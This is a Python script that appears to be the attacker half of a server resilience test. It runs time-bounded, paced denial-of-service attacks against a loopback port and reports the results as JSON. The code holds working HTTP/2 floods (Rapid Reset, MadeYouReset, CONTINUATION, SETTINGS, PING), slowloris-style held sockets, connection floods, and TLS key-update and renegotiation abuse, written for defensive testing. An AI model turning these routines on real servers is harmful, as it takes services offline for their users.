"""The attackers: `attacks.py NAME PKI PORT SECONDS` goes at 127.0.0.1:PORT from another loopback address and prints what
became of it as JSON. Each is bounded in time, and in pace as an attacker across a network would be."""

import collections
import json
import os
import select
import socket
import ssl
import subprocess
import sys
import threading
import time

import wire
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                  WINDOW_UPDATE, frame, request)

SOURCE = "127.0.0.2"
# Bytes a second of a flood over all its connections: 16 Mbit/s.
PACE = 2_000_000
FLOODERS = 4


def flood(chunk, pki, port, until, settings=b"", proper=False):
    """Several connections, each replaced when it is cut; `chunk(connection)` gives bytes and how many units they are.
    A `proper` one begins with a request that is answered, so that the time for a first request is not what ends it."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, request("GET", "/health", AUTHORITY)) if proper else b""
    tls, ended, errors, held, lock = wire.context(pki, "agent", "h2"), [], collections.Counter(), [], threading.Lock()
    total = collections.Counter()

    def one():
        while time.monotonic() < until:
            try:
                connection = wire.Http2(tls, SOURCE, port, settings, first)
            except OSError as error:
                with lock:
                    errors[type(error).__name__] += 1
                time.sleep(0.1)
                continue
            cut = False
            while time.monotonic() < until and not cut:
                data, units = chunk(connection)
                due = time.monotonic() + len(data) * FLOODERS / PACE
                cut = not connection.send(data, units, until)
                while not cut and (left := min(due, until) - time.monotonic()) > 0:
                    time.sleep(min(left, 0.05))
                    cut = not connection.read()
            with lock:
                total["units"] += connection.units
                total["bytes"] += connection.sent
                total["answers"] += connection.answers
                if cut:
                    ended.append((connection.units, time.monotonic() - connection.opened, connection.said))
                else:
                    held.append(connection)
            connection.close()
            time.sleep(0.05)

    threads = [threading.Thread(target=one) for _ in range(FLOODERS)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    said = collections.Counter(said for _, _, said in ended).most_common(2)
    return {
        "sent": total["units"], "bytes": total["bytes"], "answers": total["answers"], "cut": len(ended), "held": len(held),
        "units_until_cut": round(sum(units for units, _, _ in ended) / len(ended)) if ended else None,
        "seconds_until_cut": round(max(took for _, took, _ in ended), 1) if ended else None,
        "said": ", ".join(f"{text} x{count}" for text, count in said), "errors": dict(errors),
    }


def many(piece, count):
    return lambda _: (piece * count, count)


def get(connection, method="GET", flags=END_HEADERS | END_STREAM):
    stream = connection.next()
    return stream, frame(HEADERS, flags, stream, request(method, "/mcp", AUTHORITY))


def rapid_reset(connection):
    parts = []
    for _ in range(50):
        stream, head = get(connection)
        parts.append(head + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
    return b"".join(parts), 50


def made_you_reset(connection):
    parts = []
    for _ in range(50):
        stream, head = get(connection, "POST", END_HEADERS)
        parts.append(head + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))
    return b"".join(parts), 50


def continuation(connection):
    if connection.stream == 1:
        return get(connection, flags=END_STREAM)[1], 0
    return frame(CONTINUATION, 0, 1, wire.literal("x-more", "v" * 1000)) * 10, 10


def empty_data(connection):
    if connection.stream == 1:
        return get(connection, "POST", END_HEADERS)[1], 0
    return frame(DATA, 0, 1) * 200, 200


def headers_100k(connection):
    stream = connection.next()
    block = request("POST", "/mcp", AUTHORITY, [(f"x-{index}", "v" * 1000) for index in range(100)])
    pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    last = len(pieces) - 1
    frames = [frame(CONTINUATION if at else HEADERS, (END_HEADERS if at == last else 0) | (0 if at else END_STREAM),
                    stream, piece) for at, piece in enumerate(pieces)]
    return b"".join(frames), 1


def headers_100k_http1(pki, port, until):
    tls, done = wire.context(pki, "agent"), collections.Counter()
    head = f"POST /mcp HTTP/1.1\r\nHost: {AUTHORITY}\r\n" + "".join(f"x-{at}: {'v' * 1000}\r\n" for at in range(100)) + "\r\n"
    while time.monotonic() < until:
        try:
            with tls.wrap_socket(wire.tcp(SOURCE, port), server_hostname="localhost") as peer:
                peer.settimeout(5)
                peer.sendall(head.encode())
                done[peer.recv(64).split(b"\r\n")[0].decode()] += 1
        except OSError as error:
            done[type(error).__name__] += 1
        time.sleep(len(head) / PACE)
    return {"sent": sum(done.values()), "cut": sum(done.values()), "said": str(dict(done))}


def many_values(pki, port, until):
    """Messages of as many small values as 4 MB hold, each with a token: without one nobody would read them."""
    import load
    signer, tls, done, lock = load.Signer(pki), wire.context(pki, "agent"), collections.Counter(), threading.Lock()
    values = ",".join(['{"":0}'] * 595_000)
    body = f'{{"jsonrpc":"2.0","method":"notifications/x","params":{{"a":[{values}]}}}}'.encode()

    def one():
        while time.monotonic() < until:
            head = (f"POST /mcp HTTP/1.1\r\nHost: {AUTHORITY}\r\nAuthorization: Bearer {signer.token()}\r\n"
                    "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
                    f"MCP-Protocol-Version: 2025-11-25\r\nContent-Length: {len(body)}\r\n\r\n")
            due = time.monotonic() + len(body) * FLOODERS / PACE
            try:
                with tls.wrap_socket(wire.tcp(SOURCE, port), server_hostname="localhost") as peer:
                    peer.settimeout(10)
                    peer.sendall(head.encode() + body)
                    said = peer.recv(64).split(b"\r\n")[0].decode()
            except OSError as error:
                said = type(error).__name__
            with lock:
                done[said] += 1
            time.sleep(max(0, min(due, until) - time.monotonic()))

    threads = [threading.Thread(target=one) for _ in range(FLOODERS)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    sent = sum(done.values())
    # 503: bodies of others are held, and there is no room for this one.
    refused = done["HTTP/1.1 400 Bad Request"] + done["HTTP/1.1 503 Service Unavailable"]
    return {"sent": sent, "cut": refused, "held": sent - refused, "said": str(dict(done))}


def window_zero(connection):
    """Answers that nobody takes, on as many streams as there may be."""
    if connection.stream > 2 * 64:
        time.sleep(0.5)
        return frame(PING, 0, 0, b"12345678"), 0
    return get(connection)[1], 1


def small_pings(connection):
    """Each in a TLS record and a packet of its own: few bytes, much work."""
    time.sleep(0.001)
    return frame(PING, 0, 0, b"12345678"), 1


def hold(first, source, count, _pki, port, until):
    """Sockets that say `first` and then nothing; when they are closed by the other end."""
    sockets, closed, refused = {}, [], 0
    for _ in range(count):
        try:
            peer = wire.tcp(source, port)
            if first:
                peer.sendall(first)
            sockets[peer.fileno()] = (peer, time.monotonic())
        except OSError:
            refused += 1
        time.sleep(0.005)
    poll = select.poll()
    for number in sockets:
        poll.register(number, select.POLLIN | select.POLLHUP)
    while sockets and time.monotonic() < until:
        for number, _ in poll.poll(200):
            peer, opened = sockets[number]
            try:
                data = peer.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed.append(time.monotonic() - opened)
                poll.unregister(number)
                del sockets[number]
                peer.close()
    return {"sent": count, "cut": len(closed) + refused, "held": len(sockets),
            "seconds_until_cut": round(max(closed), 1) if closed else None}


def hello():
    """A whole ClientHello."""
    outgoing = ssl.MemoryBIO()
    tls = ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def connection_flood(pki, port, until, name=None, pace=150):
    """Connections as fast as may be, none of which comes to a request; without a certificate or with one."""
    tls, done, count, last = wire.context(pki, name), collections.Counter(), 0, 0.0
    while time.monotonic() < until:
        due, opened = time.monotonic() + 1 / pace, time.monotonic()
        try:
            with tls.wrap_socket(wire.tcp(SOURCE, port), server_hostname="localhost") as peer:
                peer.settimeout(2)
                if name is None:
                    peer.recv(1)
                done["accepted"] += 1
        except OSError as error:
            done[getattr(error, "reason", None) or type(error).__name__] += 1
            last = max(last, time.monotonic() - opened)
        count += 1
        time.sleep(max(0, due - time.monotonic()))
    return {"sent": count, "cut": count, "said": str(dict(done)), "seconds_until_cut": round(last, 2)}


def crowd(pki, port, until):
    """More whole connections than one address may have, all kept."""
    tls, kept, refused = wire.context(pki, "agent"), [], 0
    for _ in range(400):
        try:
            kept.append(tls.wrap_socket(wire.tcp(SOURCE, port), server_hostname="localhost"))
        except OSError:
            refused += 1
        if time.monotonic() >= until:
            break
    closed, most = 0, 0.0
    begun = time.monotonic()
    while kept and time.monotonic() < until:
        ready, _, _ = select.select(kept, [], [], 0.2)
        for peer in ready:
            try:
                if peer.recv(1024):
                    continue
            except OSError:
                pass
            closed, most = closed + 1, time.monotonic() - begun
            kept.remove(peer)
            peer.close()
    return {"sent": 400, "cut": refused + closed, "held": len(kept), "seconds_until_cut": round(most, 1),
            "said": f"{refused} refused at once, {closed} for want of a request"}


def openssl(version, pki, port):
    command = ["openssl", "s_client", "-connect", f"127.0.0.1:{port}", "-bind", f"{SOURCE}:0", "-servername", "localhost",
               "-cert", f"{pki}/agent.crt", "-key", f"{pki}/agent.key", "-CAfile", f"{pki}/ca/ca.crt", version]
    child = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    said = []
    reader = threading.Thread(target=lambda: said.append(child.stdout.read().decode(errors="replace")), daemon=True)
    reader.start()
    # A letter that it reads before the handshake is over would be taken for data.
    time.sleep(0.3)

    def tell(letter):
        try:
            os.write(child.stdin.fileno(), letter.encode() + b"\n")
        except OSError:
            pass
        return child.poll() is None

    def end():
        child.kill()
        child.wait()
        reader.join(1)
        return said[0] if said else ""

    return tell, end


def key_updates(pki, port, until):
    """New keys asked for without end; `K` makes the client send the request for the other side's as well."""
    sent, ended, longest = 0, 0, 0.0
    while time.monotonic() < until:
        tell, end = openssl("-tls1_3", pki, port)
        begun, on = time.monotonic(), True
        while on and time.monotonic() < until:
            on = tell("K")
            sent += on
            time.sleep(0.001)
        end()
        if not on:
            ended += 1
            longest = max(longest, time.monotonic() - begun)
    return {"sent": sent, "cut": ended, "units_until_cut": round(sent / ended) if ended else None,
            "seconds_until_cut": round(longest, 1)}


def renegotiation(pki, port, until):
    """A second handshake on each connection, over and over. The client waits for it and would say what it verified."""
    sent, granted = 0, 0
    while time.monotonic() < until:
        tell, end = openssl("-tls1_2", pki, port)
        sent += tell("R")
        time.sleep(0.2)
        said = end()
        granted += said.count("RENEGOTIATING") * max(0, said.count("depth=0") - 1)
        if "RENEGOTIATING" not in said:
            sent -= 1
    return {"sent": sent, "cut": sent - granted, "held": granted, "said": f"{granted} granted"}


SETTINGS_FRAME = frame(SETTINGS, 0, 0)
ATTACKS = {
    "rapid_reset": lambda *at: flood(rapid_reset, *at),
    "made_you_reset": lambda *at: flood(made_you_reset, *at),
    "continuation": lambda *at: flood(continuation, *at),
    "settings": lambda *at: flood(many(SETTINGS_FRAME, 1000), *at, proper=True),
    "ping": lambda *at: flood(many(frame(PING, 0, 0, b"12345678"), 500), *at, proper=True),
    "small_pings": lambda *at: flood(small_pings, *at, proper=True),
    "priority": lambda *at: flood(many(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10"), 500), *at, proper=True),
    "empty_data": lambda *at: flood(empty_data, *at),
    "window_zero": lambda *at: flood(window_zero, *at, settings=b"\0\x04\0\0\0\0"),
    "headers_100k": lambda *at: flood(headers_100k, *at),
    "headers_100k_http1": headers_100k_http1,
    "many_values": many_values,
    "half_open": lambda *at: hold(b"", SOURCE, 200, *at),
    "half_hello": lambda *at: hold(hello()[:200], SOURCE, 200, *at),
    "stalled_handshake": lambda *at: hold(hello(), SOURCE, 200, *at),
    "no_certificate": lambda *at: connection_flood(*at),
    "connect_and_leave": lambda *at: connection_flood(*at, name="agent"),
    "crowd": crowd,
    "key_update": key_updates,
    "renegotiation": renegotiation,
}

if __name__ == "__main__":
    name, pki, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    AUTHORITY = f"localhost:{port}"
    print(json.dumps(ATTACKS[name](pki, port, time.monotonic() + seconds)), flush=True)
